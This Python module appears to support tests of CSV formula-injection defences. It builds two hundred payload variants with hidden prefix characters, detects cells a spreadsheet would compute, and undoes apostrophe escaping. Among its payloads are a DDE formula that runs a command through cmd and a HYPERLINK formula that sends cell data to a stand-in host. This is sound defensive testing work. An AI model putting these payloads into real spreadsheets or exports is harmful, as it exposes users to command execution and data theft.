"""Two hundred things that a spreadsheet would take for a formula, and a spreadsheet's way of looking at a file."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterator

STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "⁺")
BEFORE = ("", "\t", "\r", "\n", "\0", " ", "\u00a0", "\ufeff", "\u200b", '"')
FORMULAS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://example.org?x="&A1)')
UNSEEN = re.compile(r"[\s\x00-\x1f\x7f\u200b-\u200f\u2060\ufeff]+")
SEPARATORS = (",", ";", "\t")
"""What machines split a file by when it is opened with a double click."""


def payloads() -> list[str]:
    """Return them: every start, behind everything that is not seen, plain or behind a foreign separator."""
    found = [f"{before}{start}{formula}" for start in STARTS for before in BEFORE for formula in FORMULAS]
    return [f"Thôn 1;{text}" if number % 7 == 0 else text for number, text in enumerate(found)]


def cells(text: str) -> Iterator[str]:
    """Yield every cell that any of the machines would see in a file."""
    for separator in SEPARATORS:
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator):
            yield from row


def active(text: str) -> list[str]:
    """Return the cells of a file that some machine would compute."""
    return [
        cell
        for cell in cells(text)
        if (seen := UNSEEN.sub("", cell)) and unicodedata.normalize("NFKC", seen)[0] in "=+-@"
    ]


def records(text: str) -> list[list[str]]:
    """Return the rows of a file as they were written, apostrophes taken back."""
    return [[plain(cell) for cell in row] for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))]


def plain(cell: str) -> str:
    """Return what was in a cell before it was made harmless: the rule of the writer, read the other way."""
    pieces = re.split("([;\t\r\n\v\f\x85\u2028\u2029])", cell)
    return "".join(
        re.sub(
            r"""\A([\s"\x00-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]*)'('*[=+\-@＝＋－＠﹦﹢﹣﹫⁼⁺⁻₌₊₋])""",
            r"\1\2",
            piece,
        )
        for piece in pieces
    )
